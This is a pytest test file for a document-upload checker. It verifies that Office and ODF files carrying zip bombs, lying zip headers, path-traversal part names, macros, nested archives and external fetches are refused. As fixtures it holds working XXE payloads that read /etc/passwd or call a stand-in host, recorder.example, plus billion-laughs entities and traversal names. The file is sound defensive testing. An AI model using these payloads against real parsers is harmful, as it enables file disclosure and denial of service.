"""Office files are containers of XML: looked at without unpacking, without parsing, and freed of what they tell."""

import io
import re
import struct
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest

from tests.files.makers import RELATIONSHIPS, a_zip, check, docx, odf, relationships, told, xlsx
from tovchoo.files.checks import MB, MOST_PARTS, Unfit

ROOT = Path(__file__).parents[2]
PASSWD = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
ENTITIES = {
    "outside": PASSWD,
    "parameter": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://recorder.example/x"> %x;]><a/>',
    "laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>',
    "late": "<a>" + " " * 65_533 + PASSWD,  # across the end of a chunk
    "later": " " * 65_530 + PASSWD,
    "utf-16": PASSWD.encode("utf-16"),
    "utf-16 without a mark": PASSWD.encode("utf-16-be"),
    "another code": '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-',
}


def refused(name, content, match=None):
    """A refusal, with what it cost: nothing large was ever unpacked."""
    tracemalloc.start()
    try:
        with pytest.raises(Unfit, match=match):
            check(name, content)
        assert tracemalloc.get_traced_memory()[1] < len(content) + 20 * MB
    finally:
        tracemalloc.stop()


@pytest.fixture
def nothing_unpacked(monkeypatch):
    """Fails where a part is opened."""

    true = zipfile.ZipFile.open

    def opened(self, name, mode="r", **how):
        assert mode == "w", "unpacked"
        return true(self, name, mode, **how)

    monkeypatch.setattr(zipfile.ZipFile, "open", opened)


def test_SEC_G3_a_part_of_a_thousand_times_its_size(nothing_unpacked):
    bomb = docx(more={"word/media/a.xml": b" " * 100 * MB})
    assert len(bomb) < 150_000
    refused("a.docx", bomb, "far more than it holds")


def test_SEC_G3_many_parts_that_are_small_together_are_not(nothing_unpacked):
    parts = {f"word/{n}.xml": b" " * (MB - 1) for n in range(300)}
    refused("a.docx", docx(more=parts), "far more than it holds")


def test_SEC_G3_a_hundred_thousand_parts(nothing_unpacked, monkeypatch):
    many = a_zip([(str(n), b"") for n in range(100_001)], zipfile.ZIP_STORED)
    refused("a.docx", many, "more than 2000 parts")
    few = len(many) - 22 + 8
    lying = many[:few] + struct.pack("<2H", 5, 5) + many[few + 4 :]  # that says it holds five
    refused("a.docx", lying, "more than 2000 parts")
    refused("a.docx", a_zip([(str(n), b"") for n in range(MOST_PARTS + 1)]), "more than 2000 parts")


def test_SEC_G3_parts_that_lie_over_one_another(nothing_unpacked):
    content = docx(more={"word/a.xml": b"a" * 900, "word/b.xml": b"b" * 900})
    start = content.rindex(b"PK\x01\x02", 0, content.rindex(b"word/b.xml"))
    over = content.index(b"PK\x03\x04", content.index(b"word/document.xml"))
    refused("a.docx", content[: start + 42] + struct.pack("<L", over) + content[start + 46 :])


def test_SEC_G3_a_header_that_lies_about_its_size():
    content = xlsx(more={"xl/a.xml": b"a" * 5 * MB})
    where = content.rindex(b"PK\x01\x02", 0, content.rindex(b"xl/a.xml"))
    refused("a.xlsx", content[: where + 24] + struct.pack("<L", 1000) + content[where + 28 :])


def test_SEC_G3_archives_within():
    inner = a_zip({"a.txt": "x"})
    for _each in range(6):
        inner = a_zip({"a.zip": inner})
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
    for within in (inner, docx(), ole, b"Rar!\x1a\7\0", b"MZ" + b"\0" * 99, zlib.compress(b"")[:0] + b"\x1f\x8b\x08\0"):
        refused("a.docx", docx(more={"word/media/image1.png": within}), "other files within")
        refused("a.odt", odf(more={"Pictures/1.png": within}), "other files within")


@pytest.mark.parametrize("name", ["../x", "word/../../x", "/etc/x", "C:/x", "word\\x", "a\0b", "a\nb", "./x"])
def test_SEC_G2_parts_that_would_lie_elsewhere(name):
    stand_in = "N" * len(name)
    content = docx(more={stand_in: "x"}).replace(stand_in.encode(), name.encode())
    refused("a.docx", content)


def test_two_parts_of_one_name_are_two_truths():
    refused("a.docx", docx(more={"WORD/document.xml": "<a/>"}))


def test_programs_are_refused():
    for part in ("word/vbaProject.bin", "xl/macrosheets/sheet1.xml", "word/activeX/activeX1.xml"):
        refused("a.docx", docx(more={part: "x"}), "program")
    for part in ("Basic/Standard/Module1.xml", "Scripts/python/a.py"):
        refused("a.odt", odf(more={part: "x"}), "program")
    types = {"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}
    for ending in ("docm", "docx"):
        refused(f"a.{ending}", docx(more=types), "program")


def test_encrypted_files_are_refused():
    refused("a.odt", odf(more={"META-INF/manifest.xml": "<m><manifest:encryption-data/></m>"}), "encrypted")
    content = bytearray(docx())
    for mark, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        content[content.index(mark) + offset] |= 1
    refused("a.docx", bytes(content), "encrypted")


@pytest.mark.parametrize("how", ENTITIES)
def test_SEC_S1_document_types_and_entities_are_refused_and_nothing_is_read(how, monkeypatch):
    def connect(*args):
        raise AssertionError("connected")

    monkeypatch.setattr("socket.socket.connect", connect)
    for part in (
        "word/document.xml",
        "[Content_Types].xml",
        "word/_rels/document.xml.rels",
        "docProps/core.xml",
        "x.bin",
    ):
        refused("a.docx", docx(more={part: ENTITIES[how]}))
    refused("a.xlsx", xlsx(more={"xl/sharedStrings.xml": ENTITIES[how]}))
    for part in ("content.xml", "meta.xml", "META-INF/manifest.xml"):
        refused("a.odt", odf(more={part: ENTITIES[how]}))


def test_SEC_S1_no_parser_of_xml_in_the_house_fetches_or_resolves():
    parser = re.compile(r"^\s*(?:from|import)\s+(?:xml(?!\.sax\.saxutils)|lxml|bs4|xmltodict|html5lib)\b", re.MULTILINE)
    tame = (r"resolve_entities[\"']?\s*[=:]\s*False", r"no_network[\"']?\s*[=:]\s*True")
    texts = {str(path): path.read_text() for path in (ROOT / "tovchoo").rglob("*.py")}
    wild = {
        path for path, text in texts.items() if parser.search(text) and not all(re.search(each, text) for each in tame)
    }
    checks = [text for path, text in texts.items() if path.startswith(str(ROOT / "tovchoo/files/checks/"))]
    assert not wild and checks and not any(map(parser.search, checks))


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "image", "externalLinkPath", "frame", "subDocument"])
def test_what_fetches_from_elsewhere_is_refused(kind):
    for target in ("http://recorder.example/x", "file:///c:/x", "&#92;&#92;recorder.example\\x"):
        links = relationships((kind, target))
        for text in (
            links,
            links.replace('"External"', "'&#69;xternal'"),
            links.replace("<Relationship ", "<r:Relationship\n"),
        ):
            refused("a.docx", docx(more={"word/_rels/settings.xml.rels": text}), "fetches")


def test_links_to_follow_by_hand_may_lead_out():
    links = relationships(("hyperlink", "https://example.org/?a=1&amp;b=>"), ("hyperlink", "mailto:a@example.org"))
    assert RELATIONSHIPS in links and told("a.docx", docx(more={"word/_rels/document.xml.rels": links})) == ""
    link = '<text:a xlink:type="simple" xlink:href="https://example.org/">x</text:a><draw:image xlink:href="P/1.png"/>'
    assert told("a.odt", odf(content=f"<a>{link}</a>")) == ""
    for fetching in ('<draw:image xlink:href="https://recorder.example/x"/>', "<d:x y:href='//recorder.example/x'/>",
                     '<script:event-listener xlink:href="vnd.sun.star.script:x"/>'):  # fmt: skip
        refused("a.odt", odf(content=f"<a>{fetching}</a>"), "fetches")


@pytest.mark.parametrize("make", [docx, xlsx])
def test_SEC_R1_names_in_the_properties_are_gone_and_all_else_is_as_it_was(make):
    before = make(more={"word/media/a.bin": bytes(range(256)) * 300})
    name = f"a.{make.__name__}"
    after, found = check(name, before)
    assert found.size == len(after) and not found.warnings and b"Canary" in b"".join(contents(before).values())
    assert b"Canary" not in after + b"".join(contents(after).values())
    same = {part: text for part, text in contents(before).items() if not part.startswith("docProps")}
    assert {part: text for part, text in contents(after).items() if not part.startswith("docProps")} == same
    assert list(contents(after)) == list(contents(before))
    assert check(name, after)[1].sha256 == found.sha256 == check(name, before)[1].sha256


def contents(file):
    with zipfile.ZipFile(io.BytesIO(file)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_SEC_R1_what_stays_in_a_file_is_said():
    ins = '<w:p><w:ins w:id="1" w:author="X">a</w:ins></w:p>'
    assert "tracked changes" in told("a.docx", docx(more={"word/document.xml": ins}))
    assert "comments" in told("a.docx", docx(more={"word/comments.xml": '<w:comment w:id="0"/>'}))
    assert "comments" in told("a.xlsx", xlsx(more={"xl/comments1.xml": '<comment ref="A1"/>'}))
    for state in ("hidden", "veryHidden"):
        book = {"xl/workbook.xml": f'<workbook><sheet name="Two" state="{state}"/></workbook>'}
        assert "hidden sheets" in told("a.xlsx", xlsx(more=book))
    for content, word in (("<text:changed-region a='1'>", "tracked changes"), ("<office:annotation >", "comments"),
                          ('<x table:display="false"/>', "hidden sheets")):  # fmt: skip
        assert word in told("a.ods", odf("spreadsheet", content=content))
    meta = "<meta:initial-creator>D. &amp; Canary\u202e</meta:initial-creator>"
    assert "author: D. & Canary. Whoever" in told("a.odt", odf(more={"meta.xml": meta}))
    assert "camera" in told("a.docx", docx(more={"word/media/1.jpg": b"\xff\xd8\xff\xe1\0\0Exif\0\0"}))
    signed = docx(more={"_xmlsignatures/sig1.xml": "<a/>"})
    assert "Dorj Canary, B. Canary" in told("a.docx", signed) and check("a.docx", signed)[0] == signed
    assert told("a.docx", docx()) == told("a.xlsx", xlsx()) == told("a.odt", odf()) == ""
